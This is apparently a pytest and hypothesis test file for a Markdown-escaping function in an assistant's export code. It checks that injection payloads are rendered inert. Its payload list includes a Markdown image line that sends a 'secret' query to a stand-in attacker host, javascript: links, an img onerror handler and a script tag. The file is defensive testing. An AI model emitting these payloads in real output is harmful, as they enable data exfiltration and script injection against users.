"""Escaping is judged by a Markdown parser that knows nothing of it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from assistant.export.escape import escape_markdown

PAYLOADS = [
    "![x](http://evil.example/?q=secret)",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    "[click](javascript:alert(1))",
    "[ref]: http://evil.example",
    "![ref][1]",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    "<https://evil.example>",
    "https://evil.example/a?b=c&d=e",
    "www.evil.example",
    "&lt;b&gt; &#x202e;",
    "a | b | c",
    "| --- | --- |",
    "# heading",
    "- item",
    "+ item",
    "1. item",
    "1) item",
    "> quote",
    "---",
    "===",
    "```sh",
    "    code",
    "`code` ``x``",
    "*a* **b** _c_ __d__ ~~e~~",
    "$\\times$ $$x^2$$",
    "a\\",
    "\\![x](http://evil.example)",
    "line\n\n# heading\n\n![x](http://evil.example)",
    ":smile: :red[text]",
]
PLACES = ["{}", "## {}", "- {}", "  > {}", "**{}**", "x {} y"]
ALPHABET = st.one_of(st.sampled_from("\\`*_{}[]()<>#+-.!|~$^&:=@/ \n\t1aw"), st.characters(codec="utf-8"))


def tokens_of(markdown: str) -> list[Token]:
    parsed = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    return [token for block in parsed for token in (block, *(block.children or []))]


def shown(markdown: str) -> str:
    return "".join(token.content for token in tokens_of(markdown) if token.type in {"text", "text_special"})


def visible(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("place", PLACES)
def test_nothing_active_survives_in_any_place(payload: str, place: str) -> None:
    harmless = {token.type for token in tokens_of(place.format("word"))}
    assert {token.type for token in tokens_of(place.format(escape_markdown(payload)))} <= harmless


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_shown_verbatim(payload: str) -> None:
    assert shown(escape_markdown(payload)) == visible(payload)


@given(st.text(ALPHABET, max_size=60))
def test_any_text_becomes_one_inert_paragraph_that_shows_it(text: str) -> None:
    escaped = escape_markdown(text)
    assert {token.type for token in tokens_of(escaped)} <= {
        "paragraph_open",
        "paragraph_close",
        "inline",
        "text",
    }
    pictured = "".join(escape_markdown(c) if not c.isprintable() and not c.isspace() else c for c in text)
    assert shown(escaped) == visible(pictured)


@pytest.mark.parametrize(
    "address", ["https://evil.example", "HTTP://evil.example", "www.evil.example", "mailto:a@evil.example"]
)
def test_bare_address_is_broken_for_parsers_that_link_it(address: str) -> None:
    assert address not in escape_markdown(f"see {address} now")


@pytest.mark.parametrize("control", ["\x1b", "\x00", "\x07", "\x9b", "\u202e", "\ud800"])
def test_control_character_becomes_a_visible_sign(control: str) -> None:
    escaped = escape_markdown(f"a{control}[31mb")
    assert control not in escaped
    escaped.encode()


@pytest.mark.parametrize(
    "plain", ["2.8x faster, up to 30% (kernel only)", "FlashAttention-3: fast!", "3.5x gains"]
)
def test_plain_sentence_stays_readable(plain: str) -> None:
    assert escape_markdown(plain) == plain
